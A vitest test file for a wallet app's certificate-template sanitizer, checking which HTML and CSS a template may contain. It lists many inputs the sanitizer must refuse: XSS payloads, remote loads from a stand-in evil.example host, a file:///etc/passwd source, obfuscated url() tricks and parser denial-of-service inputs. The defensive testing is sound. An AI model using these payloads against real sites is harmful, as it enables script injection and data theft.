import { templateLimits } from '@wallet/shared/templates/template'
import { fontFamilies, styleProperties } from '@wallet/shared/templates/vocabulary'
import { describe, expect, it } from 'vitest'
import { checkTemplate } from './allowList.ts'
import { builtinTemplates } from './builtin.ts'
import { familyNames } from './fonts.ts'
import { propertyNames } from './styleRules.ts'

const reasonsFor = (templateHtml: string, templateStyle = '') => checkTemplate({ templateHtml, templateStyle })
const ofStyle = (templateStyle: string) => reasonsFor('<p class="a">x</p>', templateStyle)

describe('what a template may contain', () => {
  it.each(builtinTemplates.map(({ name, ...template }) => [name, template] as const))('the built-in design %s', (_, template) => {
    expect(checkTemplate(template)).toEqual([])
  })

  it.each([
    '<p>plain text &amp; entities &#20026;</p>',
    '<div class="name fit if-score" style="color:#123456;width:10px">{{holderName}} · {{score}}</div>',
    '<p>a<br>b<!-- a note of the author --></p>',
    '<img src="{{qr}}" alt="扫码验证">',
    '<svg viewBox="0 0 10 10" width="10" height="10"><g fill="#b08a3c"><path d="M0 0h10v10z"/><circle cx="5" cy="5" r="2.5"></circle></g></svg>',
  ])('markup such as %s', html => {
    expect(reasonsFor(html)).toMatchObject([])
  })

  it.each([
    '.a{position:absolute;inset:0;left:10px;display:flex;gap:4px;justify-content:space-between;align-items:center}',
    '.a > p, h1 .b.c{margin:0 auto;padding:1px 2px 3px 4px;width:100%;overflow:hidden}',
    ".a{font-family:'Cert Serif','Cert Serif Ext';font-size:20px;font-weight:700;line-height:30px;letter-spacing:.5em;text-align:center;white-space:nowrap}",
    '.a{color:rgba(1,2,3,.5);background-color:#fff;background-image:linear-gradient(90deg,#fff,gold 40%);border:1px solid red;border-radius:4px;opacity:.5}',
    '.a{background:radial-gradient(circle at center,#fff,#000)}',
    '.a{transform:rotate(-8deg) scale(1.2);display:grid;grid-template-columns:1fr 2fr auto}/* a note */',
    '.a{color:red',
  ])('styles such as %s', style => {
    expect(ofStyle(style)).toEqual([])
  })
})

describe('what is refused is named by its place', () => {
  it('an attribute is marked where it stands in its tag', () => {
    const html = '<section>\n  <p class="a" onclick="zoom()">x</p>\n  <img src="https://q.example/qr.png" alt="">\n</section>'
    expect(reasonsFor(html)).toMatchObject([
      { code: 'attribute', line: 2, column: 16, length: 'onclick="zoom()"'.length },
      { code: 'source', line: 3, column: 8, length: 'src="https://q.example/qr.png"'.length },
    ])
  })
})

describe('what the editor offers to write', () => {
  it.each(styleProperties)('the property %s is known, whatever its value', property => {
    expect(ofStyle(`.a{${property}:a-value-that-is-none}`).map(({ code }) => code)).not.toContain('property')
  })

  it('holds every property there is, and every family', () => {
    expect([...propertyNames].toSorted()).toEqual([...styleProperties].toSorted())
    expect([...familyNames].toSorted()).toEqual([...fontFamilies].toSorted())
  })
})

describe('markup that is refused', () => {
  it.each([
    ['<script>alert(1)</script>', '<script> is not allowed'],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script> is not allowed'],
    ['<scr<!-- -->ipt>alert(1)</script>', 'is not allowed'],
    ['<style>@import url(//evil.example)</style>', '<style> is not allowed'],
    ['<link rel="stylesheet" href="https://evil.example/a.css">', '<link> is not allowed'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta> is not allowed'],
    ['<base href="https://evil.example/">', '<base> is not allowed'],
    ['<iframe src="https://evil.example"></iframe>', '<iframe> is not allowed'],
    ['<iframe srcdoc="<script>1</script>"></iframe>', '<iframe> is not allowed'],
    ['<object data="x"></object>', '<object> is not allowed'],
    ['<embed src="x">', '<embed> is not allowed'],
    ['<video src="x" onerror="y"></video>', '<video> is not allowed'],
    ['<form action="https://evil.example"><input></form>', '<form> is not allowed'],
    ['<a href="javascript:alert(1)">x</a>', '<a> is not allowed'],
    ['<body onload="alert(1)">x</body>', '<body> is not allowed'],
    ['<html><head></head></html>', '<html> is not allowed'],
    ['<frameset onload="x"></frameset>', '<frameset> is not allowed'],
    ['<template><p>x</p></template>', '<template> is not allowed'],
    ['<noscript><p title="</noscript><img src=x onerror=y>"></noscript>', '<noscript> is not allowed'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=y></style></mglyph></table></mtext></math>', '<math> is not allowed'],
    ['<custom-element>x</custom-element>', '<custom-element> is not allowed'],
    ['<div onclick="x">a</div>', 'attribute onclick of <div> is not allowed'],
    ['<div ONMOUSEOVER=x>a</div>', 'attribute onmouseover of <div> is not allowed'],
    ['<img src="{{qr}}" onerror="x">', 'attribute onerror of <img> is not allowed'],
    ['<div id="x">a</div>', 'attribute id of <div> is not allowed'],
    ['<div tw="bg-[url(https://evil.example)]">a</div>', 'attribute tw of <div> is not allowed'],
    ['<div constructor="x" __proto__="y">a</div>', 'attribute constructor of <div> is not allowed'],
    ['<div class="a&quot;b">x</div>', 'attribute class of <div> may not be'],
    ['<img src="https://evil.example/a.png">', 'attribute src of <img> may not be'],
    ['<img src="data:image/png;base64,AAAA">', 'attribute src of <img> may not be'],
    ['<img src="file:///etc/passwd">', 'attribute src of <img> may not be'],
    ['<img src="//evil.example/a.png">', 'attribute src of <img> may not be'],
    ['<img src="&#104;ttps://evil.example">', 'attribute src of <img> may not be'],
    ['<img src="{{background}}?x=https://evil.example">', 'attribute src of <img> may not be'],
    ['<img src="{{holderName}}">', 'attribute src of <img> may not be'],
    ['<img srcset="https://evil.example 2x" src="{{qr}}">', 'attribute srcset of <img> is not allowed'],
    ['<img alt="x">', '<img> needs a src'],
    ['<svg><use href="#x"/></svg>', '<use/> has to be closed'],
    ['<svg><use href="https://evil.example#x"></use></svg>', '<use> is not allowed'],
    ['<svg><image href="https://evil.example/a.png"></image></svg>', '<image> is not allowed'],
    ['<svg><foreignObject><p>x</p></foreignObject></svg>', '<foreignobject> is not allowed'],
    ['<svg><animate attributeName="href" to="javascript:x"></animate></svg>', '<animate> is not allowed'],
    ['<svg><set attributeName="onload" to="x"></set></svg>', '<set> is not allowed'],
    ['<svg><script>x</script></svg>', '<script> is not allowed'],
    ['<svg><p>x</p></svg>', '<p> is not allowed inside <svg>'],
    ['<svg onload="x"></svg>', 'attribute onload of <svg> is not allowed'],
    ['<svg xmlns:xlink="x"><rect xlink:href="x"/></svg>', 'attribute xmlns:xlink of <svg> is not allowed'],
    ['<svg><rect fill="url(https://evil.example)"/></svg>', 'attribute fill of <rect> may not be'],
    ['<svg><rect fill="currentColor"/></svg>', 'attribute fill of <rect> may not be'],
    ['<svg><rect width="1e9"/></svg>', 'attribute width of <rect> may not be'],
    ['<svg><path d="M0 0h1" stroke-dasharray="0.0001"/></svg>', 'attribute stroke-dasharray of <path> is not allowed'],
    ['<svg>text</svg>', 'text is not allowed inside <svg>'],
    ['<path d="M0 0h1"></path>', '<path> is only allowed inside <svg>'],
    ['<div style="background:url(https://evil.example)">x</div>', 'url() is not allowed in background'],
    ['<div style="width:1px;}.b{color:red">x</div>', 'only declarations such as'],
    ['<div style="&#98;ackground:u&#114;l(x)">x</div>', 'url() is not allowed'],
    ['<![CDATA[<script>x</script>]]>', 'cdata in html content'],
    ['<!DOCTYPE html><p>x</p>', 'a doctype is not allowed'],
    ['<?xml version="1.0"?><p>x</p>', 'unexpected question mark'],
    ['<p>x\u0000y</p>', 'unexpected null character'],
    ['<p a="1" a="2">x</p>', 'duplicate attribute'],
    ['<p>x', '<p> is not closed'],
    ['<p><b>x</p></b>', '</p> where </b> is expected'],
    ['x</p>', '</p> closes nothing'],
    ['<p>{{password}}</p>', 'placeholder {{password}} is unknown'],
    ['<p>{{constructor}}</p>', 'placeholder {{constructor}} is unknown'],
    ['<p>{{ holderName }}</p>', 'a placeholder is written {{name}}'],
    ['<p class="if-salary">x</p>', 'class if-salary names no field'],
    ['   ', 'there is nothing to draw'],
  ])('%s', (html, message) => {
    expect(
      reasonsFor(html)
        .map(reason => reason.message)
        .join('\n'),
    ).toContain(message)
    expect(new Set(reasonsFor(html).map(({ path }) => path))).toEqual(new Set(['templateHtml']))
  })
})

describe('styles that are refused', () => {
  it.each([
    ['@import "https://evil.example/a.css";', '@import is not allowed'],
    ['@import url(//evil.example);', '@import is not allowed'],
    ['@font-face{font-family:x;src:url(https://evil.example)}', '@font-face is not allowed'],
    ['@media print{.a{color:red}}', '@media is not allowed'],
    ['@keyframes x{from{color:red}}', '@keyframes is not allowed'],
    ['@namespace url(https://evil.example);', '@namespace is not allowed'],
    ['.a{background:url(https://evil.example)}', 'url() is not allowed in background'],
    ['.a{background:URL( "//evil.example" )}', 'url() is not allowed in background'],
    ['.a{background:url(data:image/svg+xml,x)}', 'url() is not allowed in background'],
    ['.a{background:u\\72l(https://evil.example)}', 'escapes are not allowed'],
    ['.a{background:u/**/rl(https://evil.example)}', 'the value of background cannot be read'],
    ['.a{background-image:image-set("https://evil.example" 1x)}', 'image-set() is not allowed'],
    ['.a{background-image:-webkit-image-set(url(x) 1x)}', '-webkit-image-set() is not allowed'],
    ['.a{background-image:cross-fade(url(x),url(y))}', 'cross-fade() is not allowed'],
    ['.a{background-image:element(#x)}', 'element() is not allowed'],
    ['.a{background-image:paint(x)}', 'paint() is not allowed'],
    ['.a{background-image:conic-gradient(red,blue)}', 'conic-gradient() is not allowed'],
    ['.a{background-image:repeating-linear-gradient(red,blue 1px)}', 'repeating-linear-gradient() is not allowed'],
    ['.a{width:expression(alert(1))}', 'expression() is not allowed'],
    ['.a{width:calc(100% - 1px)}', 'calc() is not allowed'],
    ['.a{color:var(--x)}', 'var() is not allowed'],
    ['.a{--x:red}', 'property --x is not allowed'],
    ['.a{content:attr(href)}', 'property content is not allowed'],
    ['.a{-moz-binding:url(https://evil.example#x)}', 'property -moz-binding is not allowed'],
    ['.a{behavior:url(x.htc)}', 'property behavior is not allowed'],
    ['.a{filter:blur(3px)}', 'property filter is not allowed'],
    ['.a{FILTER:blur(3px)}', 'property filter is not allowed'],
    ['.a{box-shadow:0 0 9px red}', 'property box-shadow is not allowed'],
    ['.a{text-shadow:0 0 9px red}', 'property text-shadow is not allowed'],
    ['.a{mix-blend-mode:multiply}', 'property mix-blend-mode is not allowed'],
    ['.a{mask-image:url(x)}', 'property mask-image is not allowed'],
    ['.a{clip-path:circle()}', 'property clip-path is not allowed'],
    ['.a{border-image:url(x)}', 'property border-image is not allowed'],
    ['.a{list-style-image:url(x)}', 'property list-style-image is not allowed'],
    ['.a{cursor:url(x),auto}', 'property cursor is not allowed'],
    ['.a{writing-mode:vertical-rl}', 'property writing-mode is not allowed'],
    ['.a{constructor:x}', 'property constructor is not allowed'],
    ['.a{display:inline-block}', 'inline-block is not allowed in display'],
    ['.a{position:fixed}', 'fixed is not allowed in position'],
    ['.a{border:1px dashed red}', 'dashed is not allowed in border'],
    ['.a{color:inherit}', 'inherit is not allowed in color'],
    ['.a{color:reddish}', '"reddish" is not a value of color'],
    ['.a{color:red !important}', '!important is not allowed'],
    ['.a{width:1e9px}', '1e9px is too large in width'],
    ['.a{width:10vw}', 'unit vw is not allowed'],
    ['.a{font-size:2em}', 'unit em is not allowed in font-size'],
    ['.a{grid-column:-51/50}', '-51 is too large in grid-column'],
    ['.a{grid-row:span 10000}', '10000 is too large in grid-row'],
    ['.a{grid-template-columns:repeat(100000,1px)}', 'repeat() is not allowed'],
    ['.a{font-family:Arial}', 'font Arial is not there'],
    ['.a{transform:translate(1px)}', 'translate() is not allowed in transform'],
    ['.a:hover{color:red}', 'selector :hover is not allowed'],
    ['.a::before{color:red}', 'selector ::before is not allowed'],
    ['#a{color:red}', 'selector #a is not allowed'],
    ['[class^="x"]{color:red}', 'selector [class^="x"] is not allowed'],
    ['.a + p{color:red}', 'selector + is not allowed'],
    ['.a{.b{color:red}}', 'only declarations'],
    ['<!-- .a{color:red} -->', 'only rules'],
    ['</style><script>alert(1)</script>', 'cannot be read'],
    ['.a{color:r\u0000ed}', 'control characters are not allowed'],
  ])('%s', (style, message) => {
    const reasons = ofStyle(style)
    expect(reasons.map(reason => reason.message).join('\n')).toContain(message)
    expect(new Set(reasons.map(({ path }) => path))).toEqual(new Set(['templateStyle']))
  })
})

describe('more text than a certificate could need is refused', () => {
  it.each([
    ['41 placeholders', `<p>a</p>\n<p>${'{{score}}'.repeat(41)}</p>`, 'there are more than 40 placeholders (line 2, column 4)'],
    ['2,001 characters', `<p>${'学'.repeat(1_000)}</p><p>${'学'.repeat(1_001)}</p>`, 'there are more than 2000 characters of text (line 1, column 1011)'],
    ['2,001 spaces', `<p>${' '.repeat(2_001)}</p>`, 'there are more than 2000 characters of text (line 1, column 4)'],
    [
      '13 descriptions',
      '<p>{{description}}</p>\n'.repeat(13),
      'with every placeholder filled in at its longest there are more than 6000 characters of text (line 13, column 4)',
    ],
  ])('%s', (_, html, message) => {
    expect(reasonsFor(html)).toMatchObject([{ path: 'templateHtml', message }])
  })

  it('but white space that only lays out the source does not count', () => {
    expect(reasonsFor(`<div>${`\n${' '.repeat(2_000)}<p>a</p>`.repeat(20)}</div>`)).toMatchObject([])
  })

  it('and the built-in designs have a tenth of it', () => {
    const words = builtinTemplates.map(({ templateHtml }) => templateHtml.replace(/<[^>]*>|\{\{\w+\}\}|\n/g, '').length)
    expect(Math.max(...words)).toBeLessThanOrEqual(templateLimits.text / 10)
  })
})

describe('reasons', () => {
  it('are all given at once, each with its line and column', () => {
    expect(reasonsFor('<div>\n  <script></script>\n</div>', '.a{color:red}\n.b{filter:none}')).toMatchObject([
      { path: 'templateHtml', message: '<script> is not allowed (line 2, column 3)' },
      { path: 'templateStyle', message: 'property filter is not allowed (line 2, column 4)' },
    ])
  })
})

describe('an attack on the reader itself is refused at once', () => {
  const nested = (text: string, count: number) => text.repeat(count)
  it.each([
    ['3,000 nested elements', nested('<div>', 3000) + nested('</div>', 3000), ''],
    ['64 kB of <', nested('<', 64_000), ''],
    ['10,000 attributes', `<p ${Array.from({ length: 10_000 }, (_, index) => `a${index}`).join(' ')}>x</p>`, ''],
    ['formatting elements that a browser would multiply', nested('<b a><i b><p>', 4000), ''],
    ['the same picture 200 times', nested('<img src="{{background}}">', 200), ''],
    ['60,000 line breaks before a letter', `<p>${nested('\n', 60_000)}x</p>`, ''],
    ['7,000 placeholders', `<div>${nested('{{title}}', 7_000)}</div>`, ''],
    ['more text than allowed', nested('x', 64_001), ''],
    ['200 shadows', '<p>x</p>', `.a{box-shadow:${Array.from({ length: 200 }, () => '0 0 9px red').join(',')}}`],
    ['functions in functions', '<p>x</p>', `.a{width:${nested('calc(', 3000)}}`],
    ['brackets in brackets', '<p>x</p>', nested('{', 16_000)],
    ['16,000 closing braces', '<p>x</p>', nested('}', 16_000)],
    ['10,000 selectors', '<p>x</p>', `${nested('a,', 10_000)}a{color:red}`],
    ['a gradient with 1,000 colours', '<p>x</p>', `.a{background:linear-gradient(${Array.from({ length: 1000 }, () => 'red').join(',')})}`],
    ['values that match in a million ways', '<p>x</p>', `.a{flex:${nested('1 ', 50)};border:${nested('1px ', 50)};background:${nested('red ', 50)}}`],
  ])('%s', (_, html, style) => {
    const start = performance.now()
    const reasons = reasonsFor(html, style)
    expect(performance.now() - start).toBeLessThan(templateLimits.compileMs)
    expect(reasons.length).toBeGreaterThan(0)
    expect(reasons.length).toBeLessThanOrEqual(50)
  })
})
